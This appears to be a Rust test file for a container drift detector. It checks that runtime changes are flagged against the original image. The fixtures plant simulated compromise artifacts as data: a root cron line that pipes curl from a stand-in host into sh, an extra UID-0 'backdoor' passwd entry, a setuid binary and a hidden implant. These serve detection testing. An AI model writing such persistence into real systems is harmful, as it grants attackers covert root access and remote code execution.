@@ -1,0 +1,336 @@
+//! Drift of a running container from its image, read from its root
+//! filesystem or only from its overlayfs upper directory (whiteouts as 0/0
+//! character devices, opaque directories by xattr), and, where the sandbox
+//! allows a real overlay mount, both compared.
+
+use std::collections::BTreeSet;
+use std::ffi::CString;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use serde_json::Value;
+use stowaway::fixture::{ImageBuilder, LayerBuilder};
+
+use crate::util::*;
+
+/// The image's files: (path, content, mode). Directories are implied.
+const IMAGE_FILES: &[(&str, &[u8], u32)] = &[
+    ("bin/sh", b"\x7fELF\x02\x01\x01 shell", 0o755),
+    ("bin/ls", b"\x7fELF\x02\x01\x01 ls", 0o755),
+    ("usr/bin/tool", b"\x7fELF\x02\x01\x01 tool", 0o755),
+    ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0o644),
+    ("var/cache/app/data", b"v1", 0o644),
+    ("opt/plugins/a.so", b"\x7fELF\x02\x01\x01 plugin a", 0o755),
+];
+
+fn curl() -> Vec<u8> {
+    b"\x7fELF\x02\x01\x01 Usage: curl [options...] <url>".to_vec()
+}
+
+fn write(dir: &Path, rel: &str, content: &[u8], mode: u32) {
+    let p = dir.join(rel);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(&p, content).unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn image_layout(dir: &Path) -> String {
+    let mut l = LayerBuilder::new();
+    for (p, c, m) in IMAGE_FILES {
+        l = l.file(p, c, *m);
+    }
+    ImageBuilder::new()
+        .tag("v1")
+        .layer(l)
+        .build()
+        .write_oci_layout(dir)
+        .unwrap();
+    format!("oci:{}:v1", dir.display())
+}
+
+/// The runtime changes, applied to a full root filesystem.
+fn change_rootfs(root: &Path) {
+    write(root, "tmp/.x/implant", &curl(), 0o755);
+    write(
+        root,
+        "etc/passwd",
+        b"root:x:0:0::/root:/bin/sh\nbackdoor:x:0:0::/:/bin/sh\n",
+        0o644,
+    );
+    std::fs::remove_file(root.join("usr/bin/tool")).unwrap();
+    std::fs::set_permissions(root.join("bin/ls"), std::fs::Permissions::from_mode(0o4755)).unwrap();
+    write(
+        root,
+        "etc/cron.d/update",
+        b"* * * * * root curl -s http://x.example/p | sh\n",
+        0o644,
+    );
+    write(root, "bin/sh", b"\x7fELF\x02\x01\x01 trojaned shell", 0o755);
+    write(root, "var/cache/app/data", b"v2", 0o644);
+    std::fs::remove_dir_all(root.join("opt/plugins")).unwrap();
+    write(
+        root,
+        "opt/plugins/b.so",
+        b"\x7fELF\x02\x01\x01 plugin b",
+        0o755,
+    );
+}
+
+fn drift_json(args: &[&str]) -> (i32, Value) {
+    let out = stowaway(args);
+    let code = out.status.code().unwrap();
+    let v = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    (code, v)
+}
+
+fn delta_paths(v: &Value) -> BTreeSet<String> {
+    let mut s = BTreeSet::new();
+    for (k, key) in [
+        ("added", None),
+        ("removed", None),
+        ("modified", Some("after")),
+        ("permissions", Some("after")),
+    ] {
+        for f in v["delta"][k].as_array().unwrap() {
+            let f = key.map(|k| &f[k]).unwrap_or(f);
+            s.insert(format!("{k} {}", f["path"].as_str().unwrap()));
+        }
+    }
+    s
+}
+
+fn findings(v: &Value) -> Vec<(String, String, String)> {
+    v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["code"].as_str().unwrap().to_string(),
+                f["path"].as_str().unwrap_or("-").to_string(),
+                f["action"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect()
+}
+
+fn has(fs: &[(String, String, String)], code: &str, path: &str) -> bool {
+    fs.iter().any(|(c, p, _)| c == code && p == path)
+}
+
+#[test]
+fn rootfs_drift_finds_runtime_tools_and_changes() {
+    let t = tmp();
+    let image = image_layout(&t.path().join("img"));
+    let root = t.path().join("rootfs");
+    for (p, c, m) in IMAGE_FILES {
+        write(&root, p, c, *m);
+    }
+    // Unchanged container: nothing drifted.
+    let (code, v) = drift_json(&[
+        "drift",
+        "--rootfs",
+        root.to_str().unwrap(),
+        "--image",
+        &image,
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 0, "{v:#}");
+    assert!(delta_paths(&v).is_empty(), "{:?}", delta_paths(&v));
+
+    change_rootfs(&root);
+    let policy = t.path().join("p.toml");
+    std::fs::write(&policy, "[[allow]]\ncode = \"drift-modified\"\npath = \"/var/cache/**\"\nreason = \"the app's cache is written at run time\"\n").unwrap();
+    let (code, v) = drift_json(&[
+        "drift",
+        "--rootfs",
+        root.to_str().unwrap(),
+        "--image",
+        &image,
+        "--policy",
+        policy.to_str().unwrap(),
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 1);
+    let f = findings(&v);
+    assert!(has(&f, "transfer-tool", "/tmp/.x/implant"), "{f:#?}");
+    assert!(has(&f, "drift-new-executable", "/tmp/.x/implant"));
+    assert!(has(&f, "drift-modified", "/etc/passwd"));
+    assert!(has(&f, "drift-deleted", "/usr/bin/tool"));
+    assert!(has(&f, "drift-permissions", "/bin/ls"));
+    assert!(has(&f, "download-exec-chain", "/etc/cron.d/update"));
+    assert!(
+        has(&f, "drift-new-executable", "/bin/sh"),
+        "replaced binary: {f:#?}"
+    );
+    let cache = f
+        .iter()
+        .find(|(c, p, _)| c == "drift-modified" && p == "/var/cache/app/data")
+        .unwrap();
+    assert_eq!(
+        cache.2, "allow",
+        "benign runtime write allowed by the policy"
+    );
+    let implant = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|x| x["code"] == "transfer-tool")
+        .unwrap();
+    assert_eq!(
+        implant["severity"], "critical",
+        "hidden name raises it: {implant:#}"
+    );
+    assert!(
+        implant["evidence"]
+            .to_string()
+            .contains("appeared after the container started")
+    );
+}
+
+fn mknod_whiteout(path: &Path) -> bool {
+    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
+    // SAFETY: valid path; creates a 0/0 character device (an overlay whiteout).
+    unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR, 0) == 0 }
+}
+
+fn set_opaque(dir: &Path) -> bool {
+    let c = CString::new(dir.as_os_str().as_bytes()).unwrap();
+    let name = CString::new("trusted.overlay.opaque").unwrap();
+    // SAFETY: valid strings and a 1-byte value.
+    unsafe { libc::setxattr(c.as_ptr(), name.as_ptr(), b"y".as_ptr().cast(), 1, 0) == 0 }
+}
+
+/// The same changes as an overlayfs upper directory.
+fn make_upper(upper: &Path) -> bool {
+    write(upper, "tmp/.x/implant", &curl(), 0o755);
+    write(
+        upper,
+        "etc/passwd",
+        b"root:x:0:0::/root:/bin/sh\nbackdoor:x:0:0::/:/bin/sh\n",
+        0o644,
+    );
+    std::fs::create_dir_all(upper.join("usr/bin")).unwrap();
+    write(upper, "bin/ls", b"\x7fELF\x02\x01\x01 ls", 0o4755);
+    write(
+        upper,
+        "etc/cron.d/update",
+        b"* * * * * root curl -s http://x.example/p | sh\n",
+        0o644,
+    );
+    write(
+        upper,
+        "bin/sh",
+        b"\x7fELF\x02\x01\x01 trojaned shell",
+        0o755,
+    );
+    write(upper, "var/cache/app/data", b"v2", 0o644);
+    write(
+        upper,
+        "opt/plugins/b.so",
+        b"\x7fELF\x02\x01\x01 plugin b",
+        0o755,
+    );
+    mknod_whiteout(&upper.join("usr/bin/tool")) && set_opaque(&upper.join("opt/plugins"))
+}
+
+#[test]
+fn upperdir_drift_equals_rootfs_drift_and_a_real_overlay_mount() {
+    let t = tmp();
+    let image = image_layout(&t.path().join("img"));
+    let upper = t.path().join("upper");
+    if !make_upper(&upper) {
+        assert!(
+            std::env::var_os("STOWAWAY_REQUIRE_TOOLS").is_none() || !is_root(),
+            "root could not create an overlay whiteout or opaque xattr"
+        );
+        eprintln!("skipping: cannot create 0/0 devices or trusted.* xattrs here (needs root)");
+        return;
+    }
+    let (code, up) = drift_json(&[
+        "drift",
+        "--upperdir",
+        upper.to_str().unwrap(),
+        "--image",
+        &image,
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 1);
+    let root = t.path().join("rootfs");
+    for (p, c, m) in IMAGE_FILES {
+        write(&root, p, c, *m);
+    }
+    change_rootfs(&root);
+    let (_, full) = drift_json(&[
+        "drift",
+        "--rootfs",
+        root.to_str().unwrap(),
+        "--image",
+        &image,
+        "--format",
+        "json",
+    ]);
+    assert_eq!(delta_paths(&up), delta_paths(&full));
+    let f = findings(&up);
+    assert!(
+        has(&f, "drift-deleted", "/usr/bin/tool"),
+        "whiteout device: {f:#?}"
+    );
+    assert!(
+        has(&f, "drift-deleted", "/opt/plugins/a.so"),
+        "opaque directory: {f:#?}"
+    );
+    assert!(has(&f, "transfer-tool", "/tmp/.x/implant"));
+
+    // A real overlay mount, where the sandbox allows one.
+    let lower = t.path().join("lower");
+    for (p, c, m) in IMAGE_FILES {
+        write(&lower, p, c, *m);
+    }
+    let (work, merged) = (t.path().join("work"), t.path().join("merged"));
+    std::fs::create_dir_all(&work).unwrap();
+    std::fs::create_dir_all(&merged).unwrap();
+    let opts = format!(
+        "lowerdir={},upperdir={},workdir={}",
+        lower.display(),
+        upper.display(),
+        work.display()
+    );
+    let mounted = std::process::Command::new("mount")
+        .args([
+            "-t",
+            "overlay",
+            "overlay",
+            "-o",
+            &opts,
+            merged.to_str().unwrap(),
+        ])
+        .output()
+        .map(|o| o.status.success())
+        .unwrap_or(false);
+    if !mounted {
+        eprintln!("skipping the real overlay mount: not permitted in this sandbox");
+        return;
+    }
+    let (_, via_mount) = drift_json(&[
+        "drift",
+        "--rootfs",
+        merged.to_str().unwrap(),
+        "--image",
+        &image,
+        "--format",
+        "json",
+    ]);
+    let _ = std::process::Command::new("umount").arg(&merged).status();
+    assert_eq!(delta_paths(&via_mount), delta_paths(&up));
+}
+
+fn is_root() -> bool {
+    // SAFETY: geteuid has no preconditions.
+    unsafe { libc::geteuid() == 0 }
+}
